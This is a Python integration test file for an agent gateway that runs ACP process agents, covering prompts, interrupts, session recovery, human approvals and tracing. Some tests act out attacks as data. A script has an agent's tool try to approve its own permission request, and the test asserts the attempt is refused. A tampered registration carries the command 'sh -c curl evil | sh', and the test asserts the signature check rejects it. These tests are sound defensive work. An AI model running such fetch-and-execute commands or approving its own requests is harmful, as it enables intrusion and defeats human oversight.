"""A process agent end to end through one stack: started by the gateway's `start_agent`, run
by the host's worker, its messages prompted over ACP (the project's scripted ACP agent, a real
process), its state exact, an interrupt a `session/cancel`, a death mid-turn survived with its
session loaded, each turn's beginning and end in its events and `trace`, `clear_agent` (and
`agents clear`) giving it a new session, and `stop_agent` ending it."""

from __future__ import annotations

import json
import sys
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError
from temporalio.testing import WorkflowEnvironment

from agentcomms.config import AgentConfig
from agentcomms.framing import pane_text
from agentcomms.models import Agent, Registration
from agentcomms.trust import DeploymentKey
from gateway.agents.processes import start_configured
from tests.fakes.telegram import FakeTelegram
from tests.support import acp_agent
from tests.support.acp_agent import log_of
from tests.support.chat import CHAT, connected, running_telegram, with_telegram
from tests.support.cli import AGENTCOMMS, cli, cli_home
from tests.support.stack import Stack, in_state, open_approvals, running_stack
from tests.support.waiting import eventually

SCRIPTED = [sys.executable, acp_agent.__file__]


# The agent Alice's Telegram chat is mapped to.
CHAT_AGENT = f"acp-chat-{uuid.uuid4().hex[:8]}"


@pytest.fixture(scope="module")
async def telegram() -> AsyncIterator[FakeTelegram]:
    async with running_telegram(CHAT) as fake:
        yield fake


@pytest.fixture(scope="module")
async def stack(
    temporal_env: WorkflowEnvironment,
    tmp_path_factory: pytest.TempPathFactory,
    telegram: FakeTelegram,
) -> AsyncIterator[Stack]:
    async with running_stack(
        temporal_env.client,
        tmp_path_factory.mktemp("stack"),
        configure=with_telegram(telegram, CHAT_AGENT),
    ) as s:
        yield s


async def started(stack: Stack, tmp_path: Path, name: str) -> str:
    agent = stack.agent_id(name)
    result = await stack.call("start_agent", agent_id=agent, dir=str(tmp_path), command=SCRIPTED)
    assert result["started"] and result["host"] == stack.host
    await eventually(lambda: in_state(stack, agent, "ready"), timeout=30)
    return agent


async def waiting(stack: Stack, agent: str, count: int) -> bool:
    snapshot = await stack.gateway.mailbox.snapshot(agent)
    return snapshot is not None and snapshot.pending == count


def prompts(folder: Path) -> list[str]:
    return [e["prompt"] for e in log_of(folder) if "prompt" in e]


async def send(stack: Stack, agent: str, text: str, **extra: Any) -> dict[str, Any]:
    result: dict[str, Any] = await stack.call("send", agent_id=agent, message=text, **extra)
    return result


async def test_a_message_is_one_prompt_with_its_header_and_send_wait_answers_submitted(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp")
    row = await stack.store.get_agent(agent)
    assert row is not None and row.type == "process" and row.target is not None
    assert row.target.startswith("acp: ") and row.status == "online"

    result = await send(stack, agent, "hello over ACP", wait=True, timeout=30)
    assert result["status"] == "submitted", result
    event = await stack.store.get_event(result["event_id"])
    assert event is not None and event.status == "delivered"
    assert prompts(tmp_path) == [pane_text(event)]  # the header a pane would show, then the text
    await eventually(lambda: in_state(stack, agent, "ready"))


async def test_messages_wait_while_busy_go_as_one_prompt_and_an_interrupt_cancels(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp-busy")
    await send(stack, agent, "acp:hang", wait=True, timeout=30)
    await eventually(lambda: in_state(stack, agent, "busy"))
    await eventually(lambda: len(prompts(tmp_path)) == 1)
    await send(stack, agent, "first waiting")
    await send(stack, agent, "second waiting")
    await eventually(lambda: waiting(stack, agent, 2))
    assert len(prompts(tmp_path)) == 1  # nothing is prompted into a running turn

    await stack.call("interrupt", agent_id=agent)
    await eventually(lambda: len(prompts(tmp_path)) == 2, timeout=30)
    assert [e for e in log_of(tmp_path) if "cancel" in e]
    together = prompts(tmp_path)[1]
    assert together.index("first waiting") < together.index("second waiting")


async def test_an_agent_that_dies_mid_turn_comes_back_with_its_session_and_then_stops(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp-dies")
    [first] = [e["new_session"] for e in log_of(tmp_path) if "new_session" in e]
    await send(stack, agent, "acp:die", wait=True, timeout=30)
    # Started again by its host, its session loaded, ready for what comes next.
    await eventually(lambda: [e for e in log_of(tmp_path) if e.get("load_session") == first])
    await eventually(lambda: in_state(stack, agent, "ready"), timeout=30)
    result = await send(stack, agent, "still there?", wait=True, timeout=30)
    assert result["status"] == "submitted", result
    await eventually(lambda: len(prompts(tmp_path)) == 2)
    assert [p.split("] ", 1)[1] for p in prompts(tmp_path)] == ["acp:die", "still there?"]
    assert {e["session"] for e in log_of(tmp_path) if "prompt" in e} == {first}

    assert (await stack.call("stop_agent", agent_id=agent))["stopped"]
    await eventually(lambda: [e for e in log_of(tmp_path) if e.get("stdin_closed")])
    await eventually(lambda: in_state(stack, agent, "offline"))


async def test_a_bad_start_is_refused_with_what_to_fix(stack: Stack, tmp_path: Path) -> None:
    with pytest.raises(Exception, match="not a folder"):
        await stack.call(
            "start_agent", agent_id="nowhere", dir=str(tmp_path / "missing"), command=SCRIPTED
        )
    with pytest.raises(Exception, match="not an absolute path"):
        await stack.call("start_agent", agent_id="nowhere", dir="relative", command=SCRIPTED)
    with pytest.raises(Exception, match="no process agent"):
        await stack.call("stop_agent", agent_id="never-started")
    with pytest.raises(Exception, match="only a process agent's session is started anew"):
        await stack.call("clear_agent", agent_id="never-started")


async def test_the_cli_starts_and_stops_a_process_agent_and_says_what_is_missing(
    stack: Stack, tmp_path: Path
) -> None:
    home = cli_home(tmp_path, stack)
    agent = stack.agent_id("acp-cli")
    work = tmp_path / "work"
    work.mkdir()
    begun = await cli(home, "agents", "start", agent, "--dir", str(work), "--acp", "--", *SCRIPTED)
    assert begun.returncode == 0, begun.stderr
    assert f"started {agent}: acp: " in begun.stdout
    await eventually(lambda: in_state(stack, agent, "ready"), timeout=30)
    assert (await send(stack, agent, "from the terminal", wait=True, timeout=30))["status"] == (
        "submitted"
    )
    cleared = await cli(home, "agents", "clear", agent)
    assert cleared.returncode == 0 and f"{agent} starts a new session" in cleared.stdout
    await eventually(lambda: len([e for e in log_of(work) if "new_session" in e]) == 2)
    ended = await cli(home, "agents", "stop", agent)
    assert ended.returncode == 0 and f"stopped {agent}" in ended.stdout, ended.stderr
    await eventually(lambda: in_state(stack, agent, "offline"))

    for args, says in [
        (["--dir", str(work)], "say what to run"),
        (["--dir", str(work), "--acp"], "--acp needs the agent's command after `--`"),
        (["--dir", str(work), "--kind", "gemini", "--acp", "--", "x"], "not both"),
        (["--dir", str(work / "nope"), "--acp", "--", "x"], "no such folder here"),
        (["--dir", str(work), "--kind", "emacs"], "unknown kind 'emacs'"),
    ]:
        refused = await cli(home, "agents", "start", agent, *args)
        assert refused.returncode == 1 and says in refused.stderr, (args, refused.stderr)


@pytest.mark.parametrize(
    ("acp", "error"),
    [
        ({"dir": "/srv/x", "command": ["gemini", "--acp"]}, None),
        ({"dir": "/srv/x", "kind": "codex"}, None),
        ({"dir": "/srv/x"}, "either command"),
        ({"dir": "/srv/x", "kind": "codex", "command": ["x"]}, "either command"),
        ({"dir": "relative", "kind": "gemini"}, "not an absolute path"),
        ({"dir": "/srv/x", "kind": "emacs"}, "kind"),
    ],
)
def test_a_configured_process_agent_names_one_way_to_run(
    acp: dict[str, Any], error: str | None
) -> None:
    if error is None:
        agent = AgentConfig.model_validate({"acp": acp})
        assert agent.type == "process" and agent.target is None
        return
    with pytest.raises(ValidationError, match=error):
        AgentConfig.model_validate({"acp": acp})


def test_an_agent_is_a_pane_or_a_process_never_both() -> None:
    with pytest.raises(ValidationError, match="a pane agent has `target`"):
        AgentConfig.model_validate({"target": "dev:0.1", "acp": {"dir": "/x", "kind": "gemini"}})
    with pytest.raises(ValidationError, match="a process agent has `acp`"):
        AgentConfig.model_validate({"type": "process", "target": "dev:0.1"})
    with pytest.raises(ValidationError, match="give `target`"):
        AgentConfig.model_validate({"type": "process"})


async def test_up_starts_the_process_agents_of_the_config(stack: Stack, tmp_path: Path) -> None:
    agent = stack.agent_id("acp-config")
    configured = AgentConfig.model_validate({"acp": {"dir": str(tmp_path), "command": SCRIPTED}})
    await start_configured(stack.gateway.mailbox, agent, configured, stack.host)
    await eventually(lambda: in_state(stack, agent, "ready"), timeout=30)
    assert (await send(stack, agent, "configured", wait=True, timeout=30))["status"] == "submitted"


def chosen(folder: Path) -> list[str | None]:
    return [e["chosen"] for e in log_of(folder) if "permission" in e]


async def test_a_permission_request_is_an_approval_with_the_agents_own_options(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp-asks")
    await send(stack, agent, "acp:ask 4 touch notes.txt")
    [approval] = await eventually(lambda: open_approvals(stack, agent))
    assert approval["ask"] == "question" and approval["tool"] == "Bash"
    assert approval["input"] == "touch notes.txt" and approval["whole"]
    assert approval["options"] == ["option 0", "option 1", "option 2", "option 3"]
    row = await eventually(lambda: in_state(stack, agent, "waiting"))
    assert row.waiting_for is not None and "touch notes.txt" in row.waiting_for

    await stack.call("approval_decide", id=approval["id"], behavior="answer", answer="option 1")
    await eventually(lambda: chosen(tmp_path) == ["opt-1"])  # the agent got its own option's id
    await eventually(lambda: in_state(stack, agent, "ready"))

    # A denial answers with the agent's reject option: nothing is allowed by default.
    await send(stack, agent, "acp:ask 4 touch other.txt")
    [approval] = await eventually(lambda: open_approvals(stack, agent))
    await stack.call("approval_decide", id=approval["id"], behavior="deny")
    await eventually(lambda: chosen(tmp_path) == ["opt-1", "opt-2"])


async def test_the_never_list_rejects_before_any_human_is_asked(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp-never")
    # The human's own commands are on every agent's never-list.
    await send(stack, agent, "acp:ask 4 agentcomms approve K7QF", wait=True, timeout=30)
    await eventually(lambda: chosen(tmp_path) == ["opt-2"])  # reject once
    assert await open_approvals(stack, agent) == []


async def test_the_turns_reply_streamed_goes_back_to_the_chat_that_asked(
    stack: Stack, telegram: FakeTelegram, tmp_path: Path
) -> None:
    await connected(stack, "telegram")
    agent = CHAT_AGENT
    result = await stack.call("start_agent", agent_id=agent, dir=str(tmp_path), command=SCRIPTED)
    assert result["started"]
    await eventually(lambda: in_state(stack, agent, "ready"), timeout=30)
    asked = telegram.human_says(CHAT, "acp:tool ls\nacp:say It is four, as far as I can count.")
    [reply] = await eventually(
        lambda: [m for m in telegram.sent if "It is four" in m["text"]] or None, timeout=30
    )
    assert reply["text"] == "It is four, as far as I can count."  # the chunks, whole
    assert reply["chat"]["id"] == CHAT
    assert reply["reply_to_message_id"] == asked["message"]["message_id"]
    # A turn begun at the terminal goes to no chat.
    await send(stack, agent, "acp:say Only for the terminal.", wait=True, timeout=30)
    await eventually(lambda: in_state(stack, agent, "ready"), timeout=30)
    await eventually(lambda: len(prompts(tmp_path)) == 2)
    assert not [m for m in telegram.sent if "Only for the terminal" in m["text"]]


async def test_an_interrupt_while_it_asks_closes_the_approval_and_cancels_the_turn(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp-asks-esc")
    await send(stack, agent, "acp:ask 4 touch late.txt")
    await eventually(lambda: open_approvals(stack, agent))
    await stack.call("interrupt", agent_id=agent)
    await eventually(lambda: chosen(tmp_path) == [None])  # answered "cancelled"
    await eventually(lambda: in_state(stack, agent, "ready"))
    assert await eventually(lambda: not_open(stack, agent))


# What an agent's tool might run to answer its own request: find it, then approve it, as the
# human would at a terminal.
SELF_APPROVING = """
import json, subprocess, sys, time
cli, agent = sys.argv[1], sys.argv[2]
for _ in range(300):
    listed = subprocess.run([cli, "approvals", "--json"], capture_output=True, text=True)
    mine = [a["id"] for a in json.loads(listed.stdout or "{}").get("approvals", [])
            if a["agent_id"] == agent]
    if mine:
        break
    time.sleep(0.1)
said = {"listed": mine}
for answer in (["approve", mine[0]], ["answer", mine[0], "option 0"]):
    done = subprocess.run([cli, *answer], capture_output=True, text=True)
    said[answer[0]] = {"code": done.returncode, "err": done.stderr}
print(json.dumps(said))
"""


async def test_what_a_process_agent_runs_cannot_approve_its_own_request(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp-self")
    (tmp_path / "tool.py").write_text(SELF_APPROVING)
    home = cli_home(tmp_path, stack)
    tool = f"AGENTCOMMS_HOME={home} {sys.executable} tool.py {AGENTCOMMS} {agent}"
    await send(stack, agent, f"acp:spawn {tool}\nacp:ask 4 touch mine.txt")
    [ran] = await eventually(
        lambda: [e for e in log_of(tmp_path) if "ran" in e] or None, timeout=60
    )
    said = json.loads(ran["out"])
    assert said["listed"], ran  # it sees its request, as a process in its pane would
    for answered in (said["answer"], said["approve"]):
        assert answered["code"] != 0, said
        assert f"runs in process agent {agent!r}'s process" in answered["err"]
        assert "may not answer for its human" in answered["err"]
    # Still the human's to answer, and the human's answer is the one the agent gets.
    [approval] = await open_approvals(stack, agent)
    assert approval["id"] == said["listed"][0]
    await stack.call("approval_decide", id=approval["id"], behavior="answer", answer="option 0")
    await eventually(lambda: chosen(tmp_path) == ["opt-0"])


async def not_open(stack: Stack, agent: str) -> bool:
    return await open_approvals(stack, agent) == []


def test_what_a_process_agent_runs_is_in_its_registrations_tag() -> None:
    # Anyone who reaches Temporal can signal a registration: the command it would run on the
    # host, its folder and its session rule must all be the deployment's.
    key = DeploymentKey(b"k" * 32)
    made = Registration(type="process", target="acp: x", host="h", command=["x", "--acp"], cwd="/w")
    signed = key.sign_registration("a", made)
    assert key.registration_is_genuine("a", signed)
    for change in (
        {"command": ["sh", "-c", "curl evil | sh"]},
        {"cwd": "/"},
        {"new_session_if_lost": False},
        {"type": "tmux"},
    ):
        assert not key.registration_is_genuine("a", signed.model_copy(update=change)), change


async def test_a_process_agent_that_cannot_run_keeps_its_messages_and_trace_says_why(
    stack: Stack, tmp_path: Path
) -> None:
    agent = stack.agent_id("acp-broken")
    no_acp = [sys.executable, "-c", "print('not an ACP agent')"]
    await stack.call("start_agent", agent_id=agent, dir=str(tmp_path), command=no_acp)
    posted = await send(stack, agent, "are you there?")
    row = await eventually(lambda: status_is(stack, agent, "unreachable"), timeout=30)
    assert row.pending == 1 and "did not answer ACP's initialize" in (row.last_error or "")
    traced = json.dumps(await stack.call("trace", event_id=posted["event_id"]))
    assert f"process agent {agent} is not running" in traced, traced


async def status_is(stack: Stack, agent: str, status: str) -> Agent | None:
    row = await stack.store.get_agent(agent)
    return row if row is not None and row.status == status else None


async def turns_of(stack: Stack, agent: str) -> list[dict[str, Any]]:
    listed = await stack.call("events", agent_id=agent, limit=100)
    return [e for e in listed["events"] if e["type"] == "system" and "turn" in e["payload"]]


async def test_each_turns_beginning_and_end_are_events_of_the_agent_and_in_trace(
    stack: Stack, tmp_path: Path
) -> None:
    agent = await started(stack, tmp_path, "acp-turns")
    sent = await send(stack, agent, "acp:say done", wait=True, timeout=30)
    began, ended = await eventually(lambda: pair(turns_of(stack, agent), 2))
    session = began["payload"]["session_id"]
    assert began["payload"]["turn"] == "began" and ended["payload"]["turn"] == "ended"
    assert began["payload"]["event_ids"] == ended["payload"]["event_ids"] == [sent["event_id"]]
    assert ended["payload"]["stop_reason"] == "end_turn" and ended["payload"]["reply"] == "done"
    assert ended["payload"]["text"] == "turn ended: end_turn (1 message)"
    assert began["channel_id"] == ended["channel_id"] == f"acp:{session}"

    steps = (await stack.call("trace", event_id=sent["event_id"]))["steps"]
    assert [s["step"] for s in steps][-2:] == ["turn began", "turn ended"], steps
    assert steps[-1]["detail"] == "end_turn (1 message)" and session in steps[-2]["detail"]
    # A turn's own event traces to the message it carried, and its end.
    steps = (await stack.call("trace", event_id=began["id"]))["steps"]
    assert [s["step"] for s in steps] == ["carried", "turn began", "turn ended"], steps
    assert steps[0]["detail"].startswith(sent["event_id"])

    # A turn the human cancels ends so.
    hung = await send(stack, agent, "acp:hang", wait=True, timeout=30)
    await eventually(lambda: in_state(stack, agent, "busy"))
    await stack.call("interrupt", agent_id=agent)
    *_, last = await eventually(lambda: pair(turns_of(stack, agent), 4))
    assert last["payload"]["stop_reason"] == "cancelled"
    assert last["payload"]["event_ids"] == [hung["event_id"]]


async def pair(found: Any, count: int) -> list[dict[str, Any]] | None:
    """The turns' events once there are `count` of them (awaited from `found`)."""
    turns: list[dict[str, Any]] = await found
    return turns if len(turns) >= count else None
